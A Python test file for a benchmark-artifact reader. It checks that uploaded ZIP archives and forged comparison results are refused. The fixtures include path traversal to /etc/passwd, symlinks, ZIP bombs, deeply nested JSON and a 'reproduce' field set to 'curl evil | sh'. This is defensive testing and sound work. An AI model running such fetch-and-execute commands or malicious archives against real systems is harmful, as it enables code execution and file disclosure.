"""What is accepted of an artifact that may be anything: the measurement that was asked for."""

import dataclasses
import json
import stat
import tracemalloc
import zipfile

import pytest

from benchmarks._report import artifact
from benchmarks._report.artifact import ArtifactError, Commits
from benchmarks._verdict.rules import Answer
from tests.comparisons import job_failing, job_passing, of_the_same_sources, without_gpu
from tests.report.artifacts import (
    BASE,
    DIFFER,
    END,
    FLAGS,
    GPU,
    HEAD,
    METHOD,
    OFFSET,
    OTHER,
    REQUEST,
    SAME,
    VOLUME,
    archive,
    archive_of,
    changed,
    document,
    ending,
    read,
    rewritten,
    streamed,
)
from tests.workflows.common import ROOT

# --- the archive ----------------------------------------------------------------------------------


TIMING = ("families", "gpu", "timings", 0)

REFUSED = {
    "missing file": (archive_of(), "only comparison.json may be in the archive"),
    "several files": (archive_of("comparison.json", "x"), "only comparison.json may be in"),
    "the same name twice": (archive_of("comparison.json", "./comparison.json"), "only comparison"),
    "climbing path": (archive("{}", "../comparison.json"), "only comparison.json may be in"),
    "absolute path": (archive("{}", "/etc/passwd"), "only comparison.json may be in"),
    "a directory": (archive("", "comparison.json/"), "only comparison.json may be in"),
    "a link": (archive("/etc/passwd", mode=stat.S_IFLNK | 0o777), "is no ordinary file"),
    "a device": (archive("{}", mode=stat.S_IFCHR | 0o777), "is no ordinary file"),
    "not an archive": (b"PK\3\4 no archive", "no archive can be read"),
    "an empty file": (b"", "no archive can be read"),
    "a name that is not UTF-8": (
        archive("{}", "comparison.jsoé").replace("é".encode(), b"\xff\xff"),
        "no archive can be read: UnicodeDecodeError",
    ),
    "a name with more behind a zero": (
        archive("{}", "comparison.json_evil").replace(b"_evil", b"\0evil"),
        "only comparison.json may be in",
    ),
    "bz2": (archive("{}", kind=zipfile.ZIP_BZIP2), "is neither stored nor deflated"),
    "LZMA": (archive("{}", kind=zipfile.ZIP_LZMA), "is neither stored nor deflated"),
    "an unknown kind": (rewritten(archive("{}"), METHOD, 99), "is neither stored nor deflated"),
    "corrupt content": (
        archive("{}" * 99).replace(archive("{}" * 99)[45:48], b"\xff\xff\xff"),
        "no archive can be read: error: Error -3 while decompressing",
    ),
    "a patch": (rewritten(archive("{}"), FLAGS, 0x20), "is encrypted, patched or split"),
    "another volume": (rewritten(archive("{}"), VOLUME, 7), "is encrypted, patched or split"),
    "content before the archive": (
        rewritten(archive("{}"), OFFSET, 0xFFFFFFF0, 4),
        "no archive can be read: ",
    ),
    "a directory before the archive": (ending("directory", 2**31, 4), "no archive can be read: "),
    "a directory of a gigabyte": (ending("size", 2**30, 4), "only comparison.json may be in"),
    "many members, said": (ending("members", 60_000), "only comparison.json may be in"),
    "many members, not said": (
        rewritten(archive_of(*map(str, range(20_000))), END["members"], 1, 2, b"PK\5\6"),
        "only comparison.json may be in",
    ),
    "two members, one said": (
        rewritten(
            rewritten(archive_of("comparison.json", "x"), END["members"], 1, 2, b"PK\5\6"),
            *(END["here"], 1, 2, b"PK\5\6"),
        ),
        "only comparison.json may be in",
    ),
    "a part of an archive": (ending("disk", 1), "it is a part of one"),
    "a comment": (ending("comment", 1) + b"x", "its end is missing"),
    "an archive of ZIP64": (
        archive("{}")[:-22] + b"PK\6\7" + bytes(16) + archive("{}")[-22:],
        "it is one of ZIP64",
    ),
    "a huge archive": (b"0" * 2_000_001, "the archive has more than 2000000 bytes"),
    "a ZIP bomb": (archive(b" " * 20_000_000), "has more than 4000000 bytes"),
    "not JSON": (archive("hello"), "no JSON: Expecting value"),
    "not UTF-8": (archive(b'{"schema": "\xff"}'), "no JSON: 'utf-8' codec"),
    "deeply nested": (archive("[" * 1_000_000), "no JSON: maximum recursion"),
    "deeply nested objects": (archive('{"a":' * 500_000), "no JSON: maximum recursion"),
    "a number of a million digits": (archive("1" * 1_000_000), "no JSON: Exceeds the limit"),
    "a key twice": (archive('{"schema": 1, "schema": 1}'), "a key comes twice"),
    "another type": (archive("[]"), "a comparison is an object, got list"),
    "NaN": (archive(changed(["minutes"], float("nan"))), "NaN is no number"),
    "infinity": (archive(changed([*TIMING, "effect"], float("inf"))), "Infinity is no number"),
    "-infinity": (archive(changed([*TIMING, "low"], float("-inf"))), "-Infinity is no number"),
    "infinity, spelt out": (
        archive(json.dumps(document()).replace('"minutes": 3.62', '"minutes": 1e999')),
        "comparison.minutes must be a finite number",
    ),
    "a wrong type": (archive(changed(["rounds"], "12")), "comparison.rounds must be a whole"),
    "an unknown key": (archive(document(html="<b>")), r"comparison has unknown \['html'\]"),
    "a wrong answer": (archive(document(answer="pass")), "answer is 'pass', the rest says 'fail'"),
    "a forged head": (
        archive(changed(["head"], {"name": OTHER, "sha": OTHER})),
        f"commit {HEAD} was to be measured",
    ),
    "a forged base": (
        archive(changed(["base"], {"name": OTHER, "sha": OTHER})),
        f"commit {BASE} was to be measured",
    ),
    "an abbreviated head": (
        archive(changed(["head"], {"name": HEAD, "sha": HEAD[:10]})),
        f"commit {HEAD} was to be measured",
    ),
    "a name that is no SHA": (
        archive(changed(["head", "name"], "[main](https://evil)")),
        f"commit {HEAD} was to be measured",
    ),
    "a command to be copied": (
        archive(changed(["reproduce"], "curl evil | sh")),
        "it gives another command",
    ),
    "soft rules": (archive(changed(["rules", "min_effect"], 0.9)), "judged by other rules"),
    "impossible rounds": (
        archive(changed(["rounds"], 10**9)),
        "rounds must be a whole number",
    ),
    "impossible time": (
        archive(changed(["minutes"], -1)),
        "minutes must be a finite num",
    ),
    "impossible seconds": (
        archive(changed([*TIMING, "base"], 1e200)),
        "base must be a finite nu",
    ),
    "impossible interval": (archive(changed([*TIMING, "low"], 0.9)), "does not hold its effect"),
    "impossible p": (
        archive(changed([*TIMING, "p_slower"], 7)),
        "p_slower must be a finite n",
    ),
    "a negative floor": (
        archive(changed([*TIMING, "floor"], -7)),
        "floor must be a finite",
    ),
}


@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED)
def test_hostile_artifact_is_refused(content, message):
    with pytest.raises(ArtifactError, match=message):
        read(content)


def test_a_header_that_lies_about_the_size_gains_nothing():
    honest = archive(b" " * 10_000_000)
    lying = honest.replace((10_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lying != honest
    with pytest.raises(ArtifactError, match="no archive can be read: BadZipFile: Bad CRC"):
        read(lying)


@pytest.mark.parametrize("kind", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
@pytest.mark.parametrize("said", [None, 100])
def test_little_memory_is_spent_on_what_is_refused(kind, said):
    bomb = archive(b" " * 30_000_000, kind=kind)
    if said is not None:
        bomb = rewritten(bomb, 24, said, 4)
    tracemalloc.start()
    with pytest.raises(ArtifactError):
        read(bomb)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 2_000_000


@pytest.mark.parametrize(
    "content",
    [
        streamed(json.dumps(document())),
        archive(document(), kind=zipfile.ZIP_STORED),
        archive(document(), mode=0),
    ],
)
def test_what_uploaders_write_is_read(content):
    assert read(content).answer is Answer.FAIL


def test_encrypted_archive_is_refused():
    content = bytearray(archive(document()))
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        content[content.index(signature) + offset] |= 1
    with pytest.raises(ArtifactError, match="is encrypted"):
        read(bytes(content))


def test_nothing_is_unpacked(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for content, _ in REFUSED.values():
        with pytest.raises(ArtifactError):
            read(content)
    read(archive(document()))
    assert list(tmp_path.iterdir()) == []


# --- what was asked for ---------------------------------------------------------------------------


def lost_gpu(make=without_gpu, **machine):
    """As `compare` writes it where it finds no GPU: it compares what is exact, and that passes."""
    made = document(make)
    assert made["answer"] == "pass"
    return made | {"machine": made["machine"] | machine}


def one_value():
    return dataclasses.replace(without_gpu(), exact=job_passing().exact[:1])


def only(count, family="gpu", make=job_passing):
    """With no more timings of a family."""
    made = document(make)
    kept = made["families"][family]
    kept["timings"] = kept["timings"][:count]
    kept["control"]["subjects"] = count
    return made


def without(family):
    made = document(job_passing)
    del made["families"][family]
    return made


def every_timing_slower():
    made = document(job_passing)
    for family in made["families"].values():
        for timing in family["timings"]:
            timing |= {"effect": 1.0, "low": 0.9, "upper": 1.05, "high": 1.1, "p_slower": 0.0}
    return made


def every_value_worse():
    made = document(job_passing)
    for each in made["exact"]:
        each["head"] = each["base"] * (0.5 if each["unit"]["better"] == "larger" else 2)
    return made


def invented(count):
    rows = [{"metric": "rope.Forward.track_latency", "params": [f"{i}"] * 5} for i in range(count)]
    return document(job_passing, identical=rows)


def renamed(where, *params):
    made = document(job_passing)
    inner = made
    for key in where:
        inner = inner[key]
    inner["subject"]["params"] = list(params)
    return made


def without_exact(prefix, keep=0):
    made = document(job_passing)
    ours = [each for each in made["exact"] if each["subject"]["metric"].startswith(prefix)]
    made["exact"] = [each for each in made["exact"] if each not in ours[keep:]]
    return made


def untimed():
    """All of the same machine code, and no GPU time at all."""
    made = without("gpu")
    gpu = document(job_passing)["families"]["gpu"]["timings"]
    return made | {"identical": [timing["subject"] for timing in gpu]}


# Of a lost GPU, of other commits than git has, of what the numbers do not say: none is a pass.
NOT_ASKED_FOR = {
    "no GPU": (lost_gpu(), DIFFER, "the GPU nvidia-h200 was not there, .* 'no-gpu-x86_64'"),
    "no GPU, one value": (lost_gpu(one_value, machine="no"), DIFFER, "the GPU .* was not there"),
    "a GPU of that name and none": (lost_gpu(machine=GPU), DIFFER, "the GPU .* was not there"),
    "another GPU": (
        lost_gpu(machine="nvidia-h100", gpu="H100"),
        DIFFER,
        "the GPU .* 'nvidia-h100'",
    ),
    "a GPU, and no timing": (
        lost_gpu(machine=GPU, gpu="NVIDIA H200"),
        DIFFER,
        "the suite has no such exact value: codegen.Codegen.track_instructions gfx942",
    ),
    "one value": (
        lost_gpu(one_value, machine=GPU, gpu="NVIDIA H200"),
        DIFFER,
        "a pass lacks GPU times: .* and 155 more",
    ),
    "every timing twice as slow": (every_timing_slower(), DIFFER, "its numbers say 'fail' and"),
    "every exact value worse": (every_value_worse(), DIFFER, "has another unit or answer by its"),
    "forged same sources": (document(of_the_same_sources), DIFFER, "has another package as the"),
    "same sources, not said": (document(job_passing), SAME, "has the same package as the base"),
    "same sources, measured": (
        document(job_passing, same_sources=True),
        SAME,
        "so nothing was to be measured",
    ),
    "one GPU timing": (only(1), DIFFER, "a pass lacks GPU times: .* and 154 more"),
    "three GPU timings": (only(3), DIFFER, "a pass lacks GPU times: .* and 152 more"),
    "one GPU timing less": (only(155), DIFFER, "a pass lacks GPU times: rope.Forward.track_late"),
    "no GPU timing": (without("gpu"), DIFFER, "a pass lacks GPU times: .* and 155 more"),
    "no GPU timing, all the same code": (untimed(), DIFFER, "a pass lacks any GPU time"),
    "no host timing": (without("host"), DIFFER, "a pass lacks host times: .* and 16 more"),
    "one host timing less": (only(16, "host"), DIFFER, "a pass lacks host times: host.PathCall"),
    "no timing": (document(job_passing, families={}), DIFFER, "a pass lacks GPU times"),
    "an empty family": (only(0), DIFFER, "the control of gpu is of 0 timings"),
    "no rounds": (document(job_passing, rounds=0), DIFFER, "an even number of 10 to 0 rounds"),
    "no machine code": (without_exact("codegen."), DIFFER, "a pass lacks machine code: .* 443"),
    "one value of machine code": (without_exact("codegen.", 1), DIFFER, "lacks machine code"),
    "no fact of the host": (without_exact("host."), DIFFER, "a pass lacks memory, launches and"),
    "15,000 invented timings": (invented(15_000), DIFFER, "identical must be a list of 0 to 2000"),
    "3,000 invented timings": (invented(3_000), DIFFER, "identical must be a list of 0 to 2000"),
    "some invented timings": (invented(300), DIFFER, "the suite has no such timing with machine"),
    "an unknown cell": (
        renamed(("families", "gpu", "timings", -1), "1", "64", "1", "float32", "sbhd"),
        DIFFER,
        "the suite has no such timing of gpu: rope.Forward.track_latency 1 64 1 float32 sbhd",
    ),
    "an unknown call": (
        renamed(("families", "host", "timings", 0), "thd"),
        DIFFER,
        "the suite has no such timing of host: host.Call.track_forward thd",
    ),
    "an unknown value": (
        renamed(("exact", 0), "sm_80", *"abc"),
        DIFFER,
        "the suite has no such exact value: codegen.Codegen.track_instructions sm_80 a b c",
    ),
    "another grid": (document(job_passing, grid="full"), DIFFER, "the small grid was to be meas"),
    "a change of Triton left out": (
        document(job_passing),
        Commits(False, ("triton: another",)),
        "it leaves out what changed of what the package runs on",
    ),
}


@pytest.mark.parametrize(("made", "found", "message"), NOT_ASKED_FOR.values(), ids=NOT_ASKED_FOR)
def test_what_was_not_asked_for_is_refused(made, found, message):
    with pytest.raises(ArtifactError, match=message):
        read(archive(made), found)


def test_every_forgery_was_a_pass_by_its_own_word():
    assert {made["answer"] for made, _, _ in NOT_ASKED_FOR.values()} == {"pass"}


def test_a_verdict_that_is_no_pass_may_lack_some():
    made = only(100, make=job_failing)
    failed = [t for t in made["families"]["gpu"]["timings"] if t["answer"] == "fail"]
    assert failed and read(archive(made)).answer is Answer.FAIL


def test_the_same_sources_pass_without_a_timing():
    assert read(archive(document(of_the_same_sources)), SAME).answer is Answer.PASS


def test_a_change_of_what_the_package_runs_on_is_no_pass():
    changes = ("triton: the base asks for 3.6, the head for 3.7",)
    made = document(of_the_same_sources, unmeasured=list(changes), answer="cannot tell")
    assert read(archive(made), Commits(True, changes)).answer is Answer.CANNOT_TELL


def test_subjects_are_those_of_a_real_comparison():
    """One that ships was measured on an H200 by two commits that have all that the suite asks."""
    path = ROOT / "benchmarks" / "evidence" / "reports" / "traded" / "fail.json"
    sides = {"base": {"name": BASE, "sha": BASE}, "head": {"name": HEAD, "sha": HEAD}}
    made = json.loads(path.read_text()) | sides | {"reproduce": REQUEST.command}
    real = read(archive(made))
    known = artifact.timed_subjects()
    for name in ("gpu", "host"):
        assert {timing.subject for timing in real.families[name].timings} == known[name]
    assert {timing.subject for timing in real.families["start"].timings} < known["start"]
    exact = artifact.exact_subjects("sm_90").values()
    assert {each.subject for each in real.exact} == frozenset().union(*exact)
